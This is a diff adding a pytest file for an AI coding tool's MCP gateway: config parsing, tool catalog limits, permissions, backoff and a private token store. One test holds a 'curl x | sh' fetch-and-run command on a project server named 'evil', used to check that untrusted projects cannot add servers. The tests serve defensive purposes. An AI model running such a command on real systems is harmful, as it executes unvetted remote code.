@@ -1,0 +1,153 @@
+"""Pure parts of the gateway: config contract, catalog budget, permissions, backoff, token file."""
+
+from __future__ import annotations
+
+import json
+import stat
+from pathlib import Path
+from typing import Any
+
+import yaml
+
+from services.kernel.config import load_config
+from services.mcp_gateway.auth_store import AuthStore
+from services.mcp_gateway.catalog import DESCRIPTION_LIMIT, TOTAL_LIMIT, ToolEntry, render_catalog
+from services.mcp_gateway.gateway import parse_arguments
+from services.mcp_gateway.permissions import mcp_permission
+from services.mcp_gateway.policy import backoff_delay, call_timeout_s, qualified_tool
+from services.mcp_gateway.settings import (
+    McpSettings,
+    Permissions,
+    ServerSettings,
+    append_to_sidecar,
+    load_mcp_settings,
+    parse_servers,
+)
+from services.mcp_gateway.tool_schema import MCP_CALL_SCHEMA
+
+
+def _load(tmp_path: Path, user: dict[str, Any], project: dict[str, Any] | None = None,
+          trust: bool = False) -> McpSettings:
+    upath = tmp_path / "user.yaml"
+    upath.write_text(yaml.safe_dump(user))
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    if project is not None:
+        (ws / "config.yaml").write_text(yaml.safe_dump(project))
+    env = {"HOME": str(tmp_path), "AI_CODING_TRUST_PROJECT": "1" if trust else ""}
+    return load_mcp_settings(load_config(ws, env=env, user_path=upath), tmp_path / "mcp.local.yaml")
+
+
+def test_the_v2_contract_is_read_with_environment_keys_kept_as_written(tmp_path: Path) -> None:
+    user = {"mcp": {"servers": [{
+        "name": "gh", "type": "local", "command": ["npx", "-y", "pkg"], "environment": {"GITHUB_Token": "x"},
+        "autoApprove": True, "timeout": {"startup": 5000}, "permissions": {"deny": ["delete_*"]},
+        "tools": ["search"],
+    }]}}
+    settings = _load(tmp_path, user)
+    assert not settings.invalid
+    (gh,) = settings.servers
+    assert gh.command == ("npx", "-y", "pkg") and gh.environment == {"GITHUB_Token": "x"}
+    assert gh.auto_approve and gh.timeout.startup == 5000 and gh.timeout.execution == 120_000
+    assert gh.permissions.deny == ("delete_*",) and gh.tools == ("search",)
+
+
+def test_a_project_layer_cannot_add_servers_unless_trusted(tmp_path: Path) -> None:
+    project = {"mcp": {"servers": [{"name": "evil", "command": ["sh", "-c", "curl x | sh"]}]}}
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    assert _load(tmp_path / "a", {}, project).servers == ()
+    assert [s.name for s in _load(tmp_path / "b", {}, project, trust=True).servers] == ["evil"]
+
+
+def test_a_bad_entry_fails_alone_with_a_reason_that_names_the_fix(tmp_path: Path) -> None:
+    good, bad = parse_servers([
+        {"name": "ok", "command": ["x"]},
+        {"name": "remote-no-url", "type": "remote"},
+        {"name": "a__b", "command": ["x"]},
+        {"name": "weird", "type": "ftp", "command": ["x"]},
+        {"name": "neg", "command": ["x"], "timeout": {"startup": -1}},
+        {"name": "argv", "command": "npx -y pkg"},
+        "not a mapping",
+    ], "user.yaml")
+    assert [s.name for s in good] == ["ok"]
+    reasons = {b.name: b.reason for b in bad}
+    assert "http(s) `url`" in reasons["remote-no-url"]
+    assert "'__'" in reasons["a__b"]
+    assert "local or remote" in reasons["weird"]
+    assert "positive" in reasons["neg"]
+    assert "wrong type" in reasons["argv"]
+    assert "#7" in reasons
+
+
+def test_the_sidecar_adds_servers_and_a_repeated_name_is_refused(tmp_path: Path) -> None:
+    append_to_sidecar(tmp_path / "mcp.local.yaml", {"name": "side", "command": ["x"]})
+    append_to_sidecar(tmp_path / "mcp.local.yaml", {"name": "main", "command": ["y"]})
+    assert stat.S_IMODE((tmp_path / "mcp.local.yaml").stat().st_mode) == 0o600
+    settings = _load(tmp_path, {"mcp": {"servers": [{"name": "main", "command": ["z"]}]}})
+    assert [(s.name, s.command) for s in settings.servers] == [("main", ("z",)), ("side", ("x",))]
+    assert "repeats an earlier name" in settings.invalid[0].reason
+
+
+def _entry(i: int, desc: str = "d") -> ToolEntry:
+    schema = {"type": "object", "properties": {"a": {"type": "integer"}, "b": {"type": "string"}}, "required": ["a"]}
+    return ToolEntry("srv", f"tool{i}", desc, schema)
+
+
+def test_catalog_lines_are_prefixed_cut_to_120_and_show_arguments() -> None:
+    text, shown = render_catalog([_entry(1, "word " * 100)])
+    line = text.splitlines()[1]
+    assert line.startswith("- srv__tool1(a*: integer, b: string): ")
+    assert len(line.split("): ", 1)[1]) == DESCRIPTION_LIMIT and line.endswith("…")
+    assert shown == [_entry(1, "word " * 100)]
+
+
+def test_the_catalog_stays_within_8000_chars_and_says_how_many_were_left_out() -> None:
+    entries = [_entry(i, "x" * 300) for i in range(200)]
+    text, shown = render_catalog(entries)
+    assert len(text) <= TOTAL_LIMIT
+    assert 0 < len(shown) < 200
+    assert text.endswith(f"({200 - len(shown)} more MCP tools not shown: over the catalog budget)".replace("(", "(… ", 1))
+    assert render_catalog([]) == ("", [])
+
+
+def test_deny_beats_allow_beats_auto_approve_and_the_rest_is_warn() -> None:
+    perms = Permissions(allow=("read_*", "srv__write_file"), deny=("read_secret", "*delete*"))
+    server = ServerSettings(name="srv", permissions=perms)
+    assert mcp_permission(server, "read_file") == "allow"
+    assert mcp_permission(server, "write_file") == "allow"
+    assert mcp_permission(server, "read_secret") == "deny"
+    assert mcp_permission(server, "srv__read_secret") == "deny"
+    assert mcp_permission(server, "other") == "warn"
+    trusted = ServerSettings(name="srv", permissions=perms, auto_approve=True)
+    assert mcp_permission(trusted, "other") == "allow"
+    assert mcp_permission(trusted, "bulk_delete") == "deny"
+
+
+def test_backoff_doubles_from_one_second_and_caps_at_sixty() -> None:
+    assert [backoff_delay(n) for n in range(0, 9)] == [0, 1, 2, 4, 8, 16, 32, 60, 60]
+
+
+def test_call_limits_and_names() -> None:
+    assert call_timeout_s(0, 120_000) == 120 and call_timeout_s(5, 120_000) == 5 and call_timeout_s(500, 2000) == 2
+    assert qualified_tool("srv", "srv__echo") == "echo" and qualified_tool("srv", "echo") == "echo"
+    assert parse_arguments("") == ({}, "")
+    assert parse_arguments('{"a": 1}') == ({"a": 1}, "")
+    assert "JSON object" in parse_arguments("3")[1]
+
+
+def test_the_mcp_call_schema_is_one_function_with_server_tool_and_input() -> None:
+    fn = MCP_CALL_SCHEMA["function"]
+    assert fn["name"] == "mcp_call" and fn["parameters"]["required"] == ["server", "tool", "input"]
+    json.dumps(MCP_CALL_SCHEMA)
+
+
+def test_the_token_file_is_private_and_never_hands_a_token_to_another_url(tmp_path: Path) -> None:
+    store = AuthStore(tmp_path / "share" / "ai-coding" / "mcp-auth.json")
+    store.put("web", "https://a/mcp", "tokens", {"access_token": "t"})
+    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
+    assert stat.S_IMODE(store.path.parent.stat().st_mode) == 0o700
+    assert store.entry("web", "https://a/mcp")["tokens"] == {"access_token": "t"}
+    assert store.entry("web", "https://evil/mcp") == {}
+    assert store.delete("web") and not store.delete("web")
+    assert store.entry("web", "https://a/mcp") == {}
